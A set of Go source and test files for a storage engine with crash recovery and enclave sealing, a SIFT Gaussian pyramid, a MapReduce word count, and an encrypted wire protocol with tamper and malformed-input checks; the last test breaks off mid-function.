	st = e.Stats()
	if st.CacheMisses == 0 {
		t.Errorf("expected segment reads, CacheMisses = 0")
	}
	// A re-read of a recently fetched key is served by the hot cache.
	before := e.Stats().CacheHits
	mustGet(t, e, fmt.Sprintf("k%02d", n-1), fmt.Sprintf("v%02d", n-1))
	if e.Stats().CacheHits <= before {
		t.Errorf("hot re-read did not hit the cache")
	}
}

func TestCleanCloseReopen(t *testing.T) {
	p := testPlatform()
	dir := t.TempDir()
	e := openTest(t, testConfig(t, p, dir))
	for i := 0; i < 10; i++ {
		mustInsert(t, e, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
	}
	if err := e.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}

	e2 := openTest(t, testConfig(t, p, dir))
	if got := e2.Stats().Replayed; got != 0 {
		t.Errorf("clean close still replayed %d wal records", got)
	}
	if e2.Len() != 10 {
		t.Errorf("reopened Len = %d, want 10", e2.Len())
	}
	for i := 0; i < 10; i++ {
		mustGet(t, e2, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
	}
}

func TestCrashRecoveryFromWAL(t *testing.T) {
	p := testPlatform()
	dir := t.TempDir()
	e := openTest(t, testConfig(t, p, dir))
	for i := 0; i < 8; i++ {
		mustInsert(t, e, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
	}
	if _, found, err := e.Remove(tagOf("k3")); err != nil || !found {
		t.Fatalf("Remove: %v %v", found, err)
	}
	e.Crash() // no flush, no clean shutdown

	e2 := openTest(t, testConfig(t, p, dir))
	if got := e2.Stats().Replayed; got == 0 {
		t.Fatalf("crash recovery replayed no wal records")
	}
	if e2.Len() != 7 {
		t.Errorf("recovered Len = %d, want 7", e2.Len())
	}
	for i := 0; i < 8; i++ {
		key := fmt.Sprintf("k%d", i)
		_, status, err := e2.Get(tagOf(key))
		if err != nil {
			t.Fatalf("Get(%s): %v", key, err)
		}
		want := storeengine.StatusHit
		if i == 3 {
			want = storeengine.StatusMiss
		}
		if status != want {
			t.Errorf("Get(%s) status = %v, want %v", key, status, want)
		}
	}
}

func TestTombstoneSurvivesFlushAndReopen(t *testing.T) {
	p := testPlatform()
	dir := t.TempDir()
	e := openTest(t, testConfig(t, p, dir))
	mustInsert(t, e, "doomed", "v")
	if err := e.Checkpoint(); err != nil { // record now in a segment
		t.Fatalf("Checkpoint: %v", err)
	}
	if _, found, err := e.Remove(tagOf("doomed")); err != nil || !found {
		t.Fatalf("Remove: %v %v", found, err)
	}
	if err := e.Checkpoint(); err != nil { // tombstone now in a newer segment
		t.Fatalf("Checkpoint: %v", err)
	}
	e.Crash()

	e2 := openTest(t, testConfig(t, p, dir))
	if _, status, _ := e2.Get(tagOf("doomed")); status != storeengine.StatusMiss {
		t.Errorf("deleted record resurrected after reopen: status %v", status)
	}
	if e2.Len() != 0 {
		t.Errorf("Len = %d, want 0", e2.Len())
	}
}

func TestCompactionMergesAndDropsTombstones(t *testing.T) {
	p := testPlatform()
	dir := t.TempDir()
	e := openTest(t, testConfig(t, p, dir))
	for i := 0; i < 10; i++ {
		mustInsert(t, e, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
		if err := e.Checkpoint(); err != nil { // one segment per record
			t.Fatalf("Checkpoint: %v", err)
		}
	}
	for i := 0; i < 5; i++ {
		if _, found, err := e.Remove(tagOf(fmt.Sprintf("k%d", i))); err != nil || !found {
			t.Fatalf("Remove: %v %v", found, err)
		}
	}
	if err := e.Checkpoint(); err != nil {
		t.Fatalf("Checkpoint: %v", err)
	}
	before := e.Stats()
	if before.Segments < 2 {
		t.Fatalf("want several segments before compaction, got %d", before.Segments)
	}
	if err := e.CompactNow(); err != nil {
		t.Fatalf("CompactNow: %v", err)
	}
	after := e.Stats()
	if after.Segments != 1 {
		t.Errorf("segments after compaction = %d, want 1", after.Segments)
	}
	if after.Compactions != before.Compactions+1 {
		t.Errorf("Compactions = %d, want %d", after.Compactions, before.Compactions+1)
	}
	if after.SegmentBytes >= before.SegmentBytes {
		t.Errorf("compaction did not reclaim space: %d -> %d bytes", before.SegmentBytes, after.SegmentBytes)
	}
	for i := 0; i < 10; i++ {
		_, status, err := e.Get(tagOf(fmt.Sprintf("k%d", i)))
		if err != nil {
			t.Fatalf("Get: %v", err)
		}
		want := storeengine.StatusHit
		if i < 5 {
			want = storeengine.StatusMiss
		}
		if status != want {
			t.Errorf("post-compaction Get(k%d) = %v, want %v", i, status, want)
		}
	}
	// The merged state must survive a reopen.
	e.Close()
	e2 := openTest(t, testConfig(t, p, dir))
	if e2.Len() != 5 {
		t.Errorf("reopened Len = %d, want 5", e2.Len())
	}
}

func TestWorkingSetBeyondBudgets(t *testing.T) {
	p := testPlatform()
	cfg := testConfig(t, p, t.TempDir())
	cfg.MemtableBytes = 4 << 10
	cfg.CacheBytes = 4 << 10
	e := openTest(t, cfg)

	// ~256 records x ~200 bytes ≈ 50 KiB of values: >4x the combined
	// 8 KiB in-memory budget.
	const n = 256
	blob := bytes.Repeat([]byte("x"), 200)
	var totalBytes int64
	for i := 0; i < n; i++ {
		rec := recOf(string(blob))
		ok, err := e.Insert(tagOf(fmt.Sprintf("big%03d", i)), rec)
		if err != nil || !ok {
			t.Fatalf("Insert %d: %v %v", i, ok, err)
		}
		totalBytes += rec.BlobSize
	}
	if budget := cfg.MemtableBytes + cfg.CacheBytes; totalBytes < 4*budget {
		t.Fatalf("working set %d not >= 4x budget %d; test misconfigured", totalBytes, budget)
	}
	for i := 0; i < n; i++ {
		mustGet(t, e, fmt.Sprintf("big%03d", i), string(blob))
	}
	if e.Len() != n {
		t.Errorf("Len = %d, want %d", e.Len(), n)
	}
}

func TestIterateMergedView(t *testing.T) {
	p := testPlatform()
	e := openTest(t, testConfig(t, p, t.TempDir()))
	for i := 0; i < 6; i++ {
		mustInsert(t, e, fmt.Sprintf("k%d", i), fmt.Sprintf("v%d", i))
	}
	if err := e.Checkpoint(); err != nil {
		t.Fatalf("Checkpoint: %v", err)
	}
	// Some state newer than the segment: one delete, two fresh inserts.
	if _, found, _ := e.Remove(tagOf("k0")); !found {
		t.Fatal("Remove k0")
	}
	mustInsert(t, e, "k6", "v6")
	mustInsert(t, e, "k7", "v7")

	got := map[string]string{}
	err := e.Iterate(func(tag mle.Tag, rec storeengine.Record) bool {
		got[string(rec.Blob)] = string(rec.Blob)
		return true
	})
	if err != nil {
		t.Fatalf("Iterate: %v", err)
	}
	want := []string{"v1", "v2", "v3", "v4", "v5", "v6", "v7"}
	if len(got) != len(want) {
		t.Fatalf("Iterate yielded %d records, want %d (%v)", len(got), len(want), got)
	}
	for _, w := range want {
		if _, ok := got[w]; !ok {
			t.Errorf("Iterate missed %s", w)
		}
	}
}

func TestIterateEarlyStop(t *testing.T) {
	p := testPlatform()
	e := openTest(t, testConfig(t, p, t.TempDir()))
	for i := 0; i < 10; i++ {
		mustInsert(t, e, fmt.Sprintf("k%d", i), "v")
	}
	seen := 0
	_ = e.Iterate(func(mle.Tag, storeengine.Record) bool {
		seen++
		return seen < 3
	})
	if seen != 3 {
		t.Errorf("early-stop Iterate visited %d, want 3", seen)
	}
}

func TestTTLExpiry(t *testing.T) {
	p := testPlatform()
	now := time.Unix(1000, 0)
	cfg := testConfig(t, p, t.TempDir())
	cfg.TTL = time.Minute
	cfg.Now = func() time.Time { return now }
	e := openTest(t, cfg)
	rec := recOf("v")
	rec.LastTouch = now
	if ok, err := e.Insert(tagOf("x"), rec); err != nil || !ok {
		t.Fatalf("Insert: %v %v", ok, err)
	}
	if _, status, _ := e.Get(tagOf("x")); status != storeengine.StatusHit {
		t.Fatalf("fresh Get = %v, want hit", status)
	}
	now = now.Add(2 * time.Minute)
	if _, status, _ := e.Get(tagOf("x")); status != storeengine.StatusExpired {
		t.Errorf("stale Get = %v, want expired", status)
	}
}

func TestObliviousGet(t *testing.T) {
	p := testPlatform()
	cfg := testConfig(t, p, t.TempDir())
	cfg.Oblivious = true
	e := openTest(t, cfg)
	mustInsert(t, e, "a", "va")
	mustInsert(t, e, "b", "vb")
	mustGet(t, e, "a", "va")
	mustGet(t, e, "b", "vb")
	if _, status, _ := e.Get(tagOf("zzz")); status != storeengine.StatusMiss {
		t.Errorf("oblivious miss = %v, want miss", status)
	}
	// Oblivious lookups must not mutate popularity state.
	rec, status, _ := e.Get(tagOf("a"))
	if status != storeengine.StatusHit || rec.Hits != 0 {
		t.Errorf("oblivious Get mutated hits: %d", rec.Hits)
	}
}

func TestOldest(t *testing.T) {
	p := testPlatform()
	cfg := testConfig(t, p, t.TempDir())
	e := openTest(t, cfg)
	for i, key := range []string{"old", "mid", "new"} {
		rec := recOf("v")
		rec.LastTouch = time.Unix(int64(1000+i), 0)
		if ok, err := e.Insert(tagOf(key), rec); err != nil || !ok {
			t.Fatalf("Insert: %v %v", ok, err)
		}
	}
	tag, ok := e.Oldest()
	if !ok || tag != tagOf("old") {
		t.Errorf("Oldest = %x ok=%v, want tag of 'old'", tag[:4], ok)
	}
}

func TestClosedErrors(t *testing.T) {
	p := testPlatform()
	e := openTest(t, testConfig(t, p, t.TempDir()))
	mustInsert(t, e, "a", "v")
	if err := e.Close(); err != nil {
		t.Fatalf("Close: %v", err)
	}
	if _, _, err := e.Get(tagOf("a")); err != storeengine.ErrClosed {
		t.Errorf("Get after Close = %v, want ErrClosed", err)
	}
	if _, err := e.Insert(tagOf("b"), recOf("v")); err != storeengine.ErrClosed {
		t.Errorf("Insert after Close = %v, want ErrClosed", err)
	}
	if _, _, err := e.Remove(tagOf("a")); err != storeengine.ErrClosed {
		t.Errorf("Remove after Close = %v, want ErrClosed", err)
	}
	if err := e.Close(); err != nil {
		t.Errorf("second Close = %v, want nil", err)
	}
}

func TestOrphanSegmentRemovedAtOpen(t *testing.T) {
	p := testPlatform()
	dir := t.TempDir()
	e := openTest(t, testConfig(t, p, dir))
	mustInsert(t, e, "a", "v")
	if err := e.Checkpoint(); err != nil {
		t.Fatalf("Checkpoint: %v", err)
	}
	e.Close()

	// Simulate a flush that died before its manifest commit.
	orphan := filepath.Join(dir, segmentName(99))
	if err := writeSegment(orphan, nil); err != nil {
		t.Fatalf("writeSegment: %v", err)
	}

	e2 := openTest(t, testConfig(t, p, dir))
	if _, err := os.Stat(orphan); !os.IsNotExist(err) {
		t.Errorf("orphan segment survived recovery: %v", err)
	}
	mustGet(t, e2, "a", "v")
	// The orphan's id must not be reused while it could still exist.
	if e2.nextSegID <= 99 {
		t.Errorf("nextSegID = %d, want > 99", e2.nextSegID)
	}
}

func TestCrossEnclaveSealRejected(t *testing.T) {
	// Data written by one measurement must not be readable by another:
	// the sealed records fail authentication, and open fails loudly.
	p := testPlatform()
	dir := t.TempDir()
	e := openTest(t, testConfig(t, p, dir))
	mustInsert(t, e, "a", "secret")
	e.Crash() // leave records in the WAL

	evil, err := p.Create("store", []byte("evil store code"))
	if err != nil {
		t.Fatalf("Create: %v", err)
	}
	cfg := Config{Dir: dir, Enclave: evil, CompactInterval: -1}
	if eng, err := Open(cfg); err == nil {
		eng.Close()
		t.Fatal("foreign enclave opened a sealed WAL without error")
	}
}
