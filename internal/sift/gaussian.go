package sift

import "math"

// gaussianKernel builds a normalized 1-D Gaussian kernel with standard
// deviation sigma, truncated at 4 sigma.
func gaussianKernel(sigma float64) []float32 {
	if sigma <= 0 {
		return []float32{1}
	}
	radius := int(math.Ceil(4 * sigma))
	if radius < 1 {
		radius = 1
	}
	kernel := make([]float32, 2*radius+1)
	var sum float64
	for i := -radius; i <= radius; i++ {
		v := math.Exp(-float64(i*i) / (2 * sigma * sigma))
		kernel[i+radius] = float32(v)
		sum += v
	}
	inv := float32(1 / sum)
	for i := range kernel {
		kernel[i] *= inv
	}
	return kernel
}

// Blur convolves the image with a Gaussian of the given sigma using a
// separable horizontal-then-vertical pass with replicate borders.
func Blur(g *Gray, sigma float64) *Gray {
	kernel := gaussianKernel(sigma)
	radius := len(kernel) / 2
	if radius == 0 {
		return g.Clone()
	}

	tmp := NewGray(g.W, g.H)
	for y := 0; y < g.H; y++ {
		for x := 0; x < g.W; x++ {
			var acc float32
			for k := -radius; k <= radius; k++ {
				acc += kernel[k+radius] * g.At(x+k, y)
			}
			tmp.Pix[y*g.W+x] = acc
		}
	}
	out := NewGray(g.W, g.H)
	for y := 0; y < g.H; y++ {
		for x := 0; x < g.W; x++ {
			var acc float32
			for k := -radius; k <= radius; k++ {
				acc += kernel[k+radius] * tmp.At(x, y+k)
			}
			out.Pix[y*g.W+x] = acc
		}
	}
	return out
}

// Pyramid is the Gaussian scale-space pyramid: Octaves[o][s] is the
// image at octave o and scale level s.
type Pyramid struct {
	// Octaves holds the blurred images per octave and scale.
	Octaves [][]*Gray
	// Sigmas[s] is the absolute blur of scale level s within an
	// octave (relative to the octave's base resolution).
	Sigmas []float64
}

// BuildPyramid constructs the Gaussian pyramid with the given number
// of octaves (0 picks the maximum for the image size), scales per
// octave, and base sigma.
func BuildPyramid(img *Gray, octaves, scalesPerOctave int, sigma0 float64) *Pyramid {
	if scalesPerOctave < 1 {
		scalesPerOctave = 3
	}
	// s+3 images per octave so s DoG comparisons are possible.
	levels := scalesPerOctave + 3
	if octaves <= 0 {
		octaves = maxOctaves(img.W, img.H)
	}

	k := math.Pow(2, 1/float64(scalesPerOctave))
	sigmas := make([]float64, levels)
	sigmas[0] = sigma0
	for s := 1; s < levels; s++ {
		sigmas[s] = sigma0 * math.Pow(k, float64(s))
	}

	pyr := &Pyramid{Sigmas: sigmas}
	base := Blur(img, sigma0)
	for o := 0; o < octaves; o++ {
		if base.W < 8 || base.H < 8 {
			break
		}
		oct := make([]*Gray, levels)
		oct[0] = base
		for s := 1; s < levels; s++ {
			// Incremental blur: sigma needed to go from level s-1 to s.
			delta := math.Sqrt(sigmas[s]*sigmas[s] - sigmas[s-1]*sigmas[s-1])
			oct[s] = Blur(oct[s-1], delta)
		}
		pyr.Octaves = append(pyr.Octaves, oct)
		// Next octave starts from the level with 2*sigma0 blur,
		// downsampled.
		base = oct[scalesPerOctave].Downsample()
	}
	return pyr
}

func maxOctaves(w, h int) int {
	minDim := w
	if h < minDim {
		minDim = h
	}
	n := 0
	for minDim >= 16 {
		minDim /= 2
		n++
	}
	if n < 1 {
		n = 1
	}
	return n
}

// DoG computes the difference-of-Gaussians stacks for each octave of
// the pyramid: dog[o][s] = octave[o][s+1] - octave[o][s].
func (p *Pyramid) DoG() [][]*Gray {
	out := make([][]*Gray, len(p.Octaves))
	for o, oct := range p.Octaves {
		dogs := make([]*Gray, len(oct)-1)
		for s := 0; s < len(oct)-1; s++ {
			d, err := Sub(oct[s+1], oct[s])
			if err != nil {
				// Same-octave images always share dimensions; treat a
				// mismatch as an internal invariant violation.
				panic("sift: pyramid octave size mismatch: " + err.Error())
			}
			dogs[s] = d
		}
		out[o] = dogs
	}
	return out
}
