package mapreduce

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
)

func wordCountNaive(docs []string) map[string]int {
	out := make(map[string]int)
	for _, d := range docs {
		for _, w := range Tokenize(d) {
			out[w]++
		}
	}
	return out
}

func TestRunWordCount(t *testing.T) {
	docs := []string{
		"the quick brown fox",
		"the lazy dog",
		"The Quick DOG",
	}
	for _, workers := range []int{1, 2, 8} {
		got, err := BagOfWords(docs, workers)
		if err != nil {
			t.Fatalf("workers=%d: %v", workers, err)
		}
		want := wordCountNaive(docs)
		if !reflect.DeepEqual(got, want) {
			t.Errorf("workers=%d: BagOfWords = %v, want %v", workers, got, want)
		}
	}
}

func TestRunEmptyInputs(t *testing.T) {
	got, err := BagOfWords(nil, 4)
	if err != nil {
		t.Fatalf("BagOfWords: %v", err)
	}
	if len(got) != 0 {
		t.Errorf("BagOfWords(nil) = %v, want empty", got)
	}
}

func TestRunValidatesCallbacks(t *testing.T) {
	if _, err := Run[int, string, int, int](nil, nil, nil, Config[int]{}); err == nil {
		t.Error("Run accepted nil mapper/reducer")
	}
}

func TestRunMapperErrorPropagates(t *testing.T) {
	wantErr := errors.New("map failure")
	_, err := Run(
		[]int{1, 2, 3},
		func(in int, emit func(string, int)) error {
			if in == 2 {
				return wantErr
			}
			emit("k", in)
			return nil
		},
		func(k string, vs []int) (int, error) { return 0, nil },
		Config[int]{Workers: 2},
	)
	if !errors.Is(err, wantErr) {
		t.Errorf("Run = %v, want %v", err, wantErr)
	}
}

func TestRunReducerErrorPropagates(t *testing.T) {
	wantErr := errors.New("reduce failure")
	_, err := Run(
		[]int{1, 2, 3},
		func(in int, emit func(string, int)) error {
			emit("k", in)
			return nil
		},
		func(k string, vs []int) (int, error) { return 0, wantErr },
		Config[int]{Workers: 2},
	)
	if !errors.Is(err, wantErr) {
		t.Errorf("Run = %v, want %v", err, wantErr)
	}
}

func TestRunWithoutCombiner(t *testing.T) {
	// Without a combiner every emitted value must reach the reducer.
	got, err := Run(
		[]string{"a a a", "a a"},
		func(in string, emit func(string, int)) error {
			for _, w := range strings.Fields(in) {
				emit(w, 1)
			}
			return nil
		},
		func(k string, vs []int) (int, error) { return len(vs), nil },
		Config[int]{Workers: 2},
	)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if got["a"] != 5 {
		t.Errorf("reducer saw %d values, want 5", got["a"])
	}
}

func TestRunCombinerReducesShuffleVolume(t *testing.T) {
	// With a sum combiner the reducer sees at most one value per key
	// per worker.
	maxLen := 0
	_, err := Run(
		[]string{"a a a a", "a a a", "a a"},
		func(in string, emit func(string, int)) error {
			for _, w := range strings.Fields(in) {
				emit(w, 1)
			}
			return nil
		},
		func(k string, vs []int) (int, error) {
			if len(vs) > maxLen {
				maxLen = len(vs)
			}
			total := 0
			for _, v := range vs {
				total += v
			}
			return total, nil
		},
		Config[int]{Workers: 3, Combine: func(a, b int) int { return a + b }},
	)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if maxLen > 3 {
		t.Errorf("reducer saw %d values for one key, want <= workers (3)", maxLen)
	}
}

func TestRunGenericTypes(t *testing.T) {
	// Keys and outputs of distinct non-string types.
	type stat struct{ Sum, N int }
	got, err := Run(
		[]int{1, 2, 3, 4, 5, 6},
		func(in int, emit func(bool, int)) error {
			emit(in%2 == 0, in)
			return nil
		},
		func(even bool, vs []int) (stat, error) {
			s := stat{N: len(vs)}
			for _, v := range vs {
				s.Sum += v
			}
			return s, nil
		},
		Config[int]{Workers: 2},
	)
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if got[true] != (stat{Sum: 12, N: 3}) || got[false] != (stat{Sum: 9, N: 3}) {
		t.Errorf("Run = %v", got)
	}
}

func TestTokenize(t *testing.T) {
	tests := []struct {
		in   string
		want []string
	}{
		{"", nil},
		{"Hello, World!", []string{"hello", "world"}},
		{"foo  bar\tbaz\nqux", []string{"foo", "bar", "baz", "qux"}},
		{"abc123 DEF", []string{"abc123", "def"}},
		{"--- ***", nil},
		{"trailing word", []string{"trailing", "word"}},
		{"word", []string{"word"}},
	}
	for _, tt := range tests {
		got := Tokenize(tt.in)
		if len(got) == 0 && len(tt.want) == 0 {
			continue
		}
		if !reflect.DeepEqual(got, tt.want) {
			t.Errorf("Tokenize(%q) = %v, want %v", tt.in, got, tt.want)
		}
	}
}

// Property: parallel MapReduce word count equals the naive sequential
// count for arbitrary documents and worker counts.
func TestQuickBagOfWordsMatchesNaive(t *testing.T) {
	prop := func(docs []string, workers uint8) bool {
		w := int(workers%8) + 1
		got, err := BagOfWords(docs, w)
		if err != nil {
			return false
		}
		return reflect.DeepEqual(got, wordCountNaive(docs))
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

func TestCountsCodecRoundTrip(t *testing.T) {
	cases := []map[string]int{
		{},
		{"a": 1},
		{"hello": 3, "world": 7, "zz": 1 << 40},
	}
	for _, counts := range cases {
		got, err := DecodeCounts(EncodeCounts(counts))
		if err != nil {
			t.Fatalf("DecodeCounts: %v", err)
		}
		if len(got) != len(counts) {
			t.Errorf("round trip %v = %v", counts, got)
			continue
		}
		for k, v := range counts {
			if got[k] != v {
				t.Errorf("round trip %v = %v", counts, got)
				break
			}
		}
	}
}

func TestCountsCodecDeterministic(t *testing.T) {
	a := EncodeCounts(map[string]int{"x": 1, "y": 2, "z": 3})
	b := EncodeCounts(map[string]int{"z": 3, "y": 2, "x": 1})
	if !reflect.DeepEqual(a, b) {
		t.Error("EncodeCounts is not canonical")
	}
}

func TestCountsCodecRejectsMalformed(t *testing.T) {
	enc := EncodeCounts(map[string]int{"abc": 5})
	for i, bad := range [][]byte{nil, {1}, enc[:len(enc)-2], append(append([]byte{}, enc...), 0)} {
		if _, err := DecodeCounts(bad); err == nil {
			t.Errorf("case %d: DecodeCounts accepted malformed input", i)
		}
	}
}

// Property: the counts codec round-trips arbitrary maps.
func TestQuickCountsCodec(t *testing.T) {
	prop := func(m map[string]uint16) bool {
		counts := make(map[string]int, len(m))
		for k, v := range m {
			counts[k] = int(v)
		}
		got, err := DecodeCounts(EncodeCounts(counts))
		return err == nil && reflect.DeepEqual(got, counts)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}
