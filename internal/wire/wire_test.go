package wire

import (
	"bytes"
	"errors"
	"io"
	"net"
	"reflect"
	"testing"
	"testing/quick"

	"speed/internal/enclave"
	"speed/internal/mle"
)

func mustTag(b byte) mle.Tag {
	var t mle.Tag
	for i := range t {
		t[i] = b
	}
	return t
}

func TestMessageRoundTrips(t *testing.T) {
	sealed := mle.Sealed{
		Challenge:  []byte("rrrrrrrrrrrrrrrr"),
		WrappedKey: []byte("kkkkkkkkkkkkkkkk"),
		Blob:       []byte("ciphertext blob bytes"),
	}
	msgs := []Message{
		GetRequest{Tag: mustTag(0xAB)},
		GetResponse{Found: false},
		GetResponse{Found: true, Sealed: sealed},
		PutRequest{Tag: mustTag(0x01), Sealed: sealed},
		PutResponse{OK: true},
		PutResponse{OK: false, Err: "quota exceeded"},
	}
	for _, m := range msgs {
		got, err := Unmarshal(Marshal(m))
		if err != nil {
			t.Errorf("%v: Unmarshal: %v", m.Kind(), err)
			continue
		}
		if !reflect.DeepEqual(got, m) {
			t.Errorf("%v: round trip = %#v, want %#v", m.Kind(), got, m)
		}
	}
}

func TestUnmarshalRejectsMalformed(t *testing.T) {
	tests := []struct {
		name string
		b    []byte
	}{
		{"empty", nil},
		{"unknown kind", []byte{0xEE, 1, 2, 3}},
		{"short get request", []byte{byte(KindGetRequest), 1, 2}},
		{"get response missing bool", []byte{byte(KindGetResponse)}},
		{"get response bad bool", []byte{byte(KindGetResponse), 7}},
		{"put request short tag", []byte{byte(KindPutRequest), 1, 2, 3}},
		{"put response truncated", []byte{byte(KindPutResponse), 1, 0, 0}},
	}
	for _, tt := range tests {
		if _, err := Unmarshal(tt.b); !errors.Is(err, ErrMalformed) {
			t.Errorf("%s: Unmarshal = %v, want ErrMalformed", tt.name, err)
		}
	}
}

func TestUnmarshalRejectsTrailingBytes(t *testing.T) {
	b := Marshal(PutResponse{OK: true})
	b = append(b, 0xFF)
	if _, err := Unmarshal(b); !errors.Is(err, ErrMalformed) {
		t.Errorf("Unmarshal with trailing bytes = %v, want ErrMalformed", err)
	}
}

func TestUnmarshalRejectsOverlongLength(t *testing.T) {
	// PUT_RESPONSE with a declared error-string length far beyond the
	// actual payload must be rejected, not cause a huge allocation.
	b := []byte{byte(KindPutResponse), 1, 0xFF, 0xFF, 0xFF, 0xFF}
	if _, err := Unmarshal(b); !errors.Is(err, ErrMalformed) {
		t.Errorf("Unmarshal with overlong length = %v, want ErrMalformed", err)
	}
}

func TestQuickMessageRoundTrip(t *testing.T) {
	prop := func(tag [32]byte, challenge, wrapped, blob []byte, found bool) bool {
		m := GetResponse{
			Found: found,
			Sealed: mle.Sealed{
				Challenge:  challenge,
				WrappedKey: wrapped,
				Blob:       blob,
			},
		}
		got, err := Unmarshal(Marshal(m))
		if err != nil {
			return false
		}
		gr, ok := got.(GetResponse)
		if !ok || gr.Found != m.Found {
			return false
		}
		return bytes.Equal(gr.Sealed.Challenge, challenge) &&
			bytes.Equal(gr.Sealed.WrappedKey, wrapped) &&
			bytes.Equal(gr.Sealed.Blob, blob)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 128}); err != nil {
		t.Error(err)
	}
}

func TestFrameRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	payloads := [][]byte{nil, {}, []byte("a"), bytes.Repeat([]byte("x"), 100_000)}
	for _, p := range payloads {
		if err := WriteFrame(&buf, p); err != nil {
			t.Fatalf("WriteFrame: %v", err)
		}
	}
	for _, p := range payloads {
		got, err := ReadFrame(&buf)
		if err != nil {
			t.Fatalf("ReadFrame: %v", err)
		}
		if !bytes.Equal(got, p) {
			t.Errorf("ReadFrame = %d bytes, want %d", len(got), len(p))
		}
	}
}

func TestFrameTooLarge(t *testing.T) {
	var hdr bytes.Buffer
	if err := WriteFrame(&hdr, make([]byte, 8)); err != nil {
		t.Fatalf("WriteFrame: %v", err)
	}
	raw := hdr.Bytes()
	// Forge a header announcing an oversized frame.
	raw[0], raw[1], raw[2], raw[3] = 0xFF, 0xFF, 0xFF, 0xFF
	if _, err := ReadFrame(bytes.NewReader(raw)); !errors.Is(err, ErrFrameTooLarge) {
		t.Errorf("ReadFrame = %v, want ErrFrameTooLarge", err)
	}
}

func TestFrameTruncatedPayload(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteFrame(&buf, make([]byte, 100)); err != nil {
		t.Fatalf("WriteFrame: %v", err)
	}
	raw := buf.Bytes()[:50]
	if _, err := ReadFrame(bytes.NewReader(raw)); err == nil {
		t.Error("ReadFrame accepted truncated payload")
	}
}

// handshakePair establishes a channel between two enclaves over an
// in-memory pipe and returns (client, server) channels.
func handshakePair(t *testing.T, p *enclave.Platform, app, store *enclave.Enclave, accept func(enclave.Measurement) bool) (*Channel, *Channel) {
	t.Helper()
	cConn, sConn := net.Pipe()
	type res struct {
		ch  *Channel
		err error
	}
	serverDone := make(chan res, 1)
	go func() {
		ch, err := ServerHandshake(sConn, store, accept)
		serverDone <- res{ch, err}
	}()
	client, err := ClientHandshake(cConn, app, store.Measurement())
	sr := <-serverDone
	if err != nil {
		t.Fatalf("ClientHandshake: %v", err)
	}
	if sr.err != nil {
		t.Fatalf("ServerHandshake: %v", sr.err)
	}
	return client, sr.ch
}

func TestSecureChannelRoundTrip(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))
	client, server := handshakePair(t, p, app, store, nil)
	defer client.Close()

	if client.Peer() != store.Measurement() {
		t.Error("client channel has wrong peer measurement")
	}
	if server.Peer() != app.Measurement() {
		t.Error("server channel has wrong peer measurement")
	}

	req := GetRequest{Tag: mustTag(0x55)}
	done := make(chan error, 1)
	go func() {
		msg, err := server.RecvMessage()
		if err != nil {
			done <- err
			return
		}
		got, ok := msg.(GetRequest)
		if !ok || got.Tag != req.Tag {
			done <- errors.New("server received wrong message")
			return
		}
		done <- server.SendMessage(GetResponse{Found: true, Sealed: mle.Sealed{Blob: []byte("b")}})
	}()
	if err := client.SendMessage(req); err != nil {
		t.Fatalf("SendMessage: %v", err)
	}
	reply, err := client.RecvMessage()
	if err != nil {
		t.Fatalf("RecvMessage: %v", err)
	}
	if err := <-done; err != nil {
		t.Fatalf("server: %v", err)
	}
	gr, ok := reply.(GetResponse)
	if !ok || !gr.Found || string(gr.Sealed.Blob) != "b" {
		t.Errorf("reply = %#v, want found blob", reply)
	}
}

func TestSecureChannelEncryptsTraffic(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))

	cConn, sConn := net.Pipe()
	// A tap that records everything the client writes to the wire.
	var captured bytes.Buffer
	tap := &tapConn{ReadWriteCloser: cConn, w: &captured}

	serverDone := make(chan *Channel, 1)
	go func() {
		ch, err := ServerHandshake(sConn, store, nil)
		if err != nil {
			t.Errorf("ServerHandshake: %v", err)
			serverDone <- nil
			return
		}
		serverDone <- ch
	}()
	client, err := ClientHandshake(tap, app, store.Measurement())
	if err != nil {
		t.Fatalf("ClientHandshake: %v", err)
	}
	server := <-serverDone
	if server == nil {
		t.Fatal("server handshake failed")
	}

	secret := []byte("very-identifiable-secret-tag-material")
	go func() { _, _ = server.Recv() }()
	if err := client.Send(secret); err != nil {
		t.Fatalf("Send: %v", err)
	}
	if bytes.Contains(captured.Bytes(), secret) {
		t.Error("secret appeared in plaintext on the wire")
	}
}

type tapConn struct {
	io.ReadWriteCloser
	w io.Writer
}

func (c *tapConn) Write(p []byte) (int, error) {
	_, _ = c.w.Write(p)
	return c.ReadWriteCloser.Write(p)
}

func TestSecureChannelRejectsTamper(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))
	client, server := handshakePair(t, p, app, store, nil)
	defer client.Close()

	// Forge a frame directly on the server's recv path by sending a
	// valid frame and then a corrupted one.
	go func() {
		_ = client.Send([]byte("ok"))
		// Second message with a flipped ciphertext byte: encrypt
		// legitimately, then corrupt in flight by sending a raw frame.
		_ = WriteFrame(client.conn, []byte("garbage-not-a-valid-ciphertext"))
	}()
	if _, err := server.Recv(); err != nil {
		t.Fatalf("first Recv: %v", err)
	}
	if _, err := server.Recv(); !errors.Is(err, ErrChannelAuth) {
		t.Errorf("tampered Recv = %v, want ErrChannelAuth", err)
	}
}

func TestServerHandshakeRejectsClient(t *testing.T) {
	p := enclave.NewPlatform(enclave.Config{})
	app, _ := p.Create("app", []byte("app code"))
	store, _ := p.Create("store", []byte("store code"))

	cConn, sConn := net.Pipe()
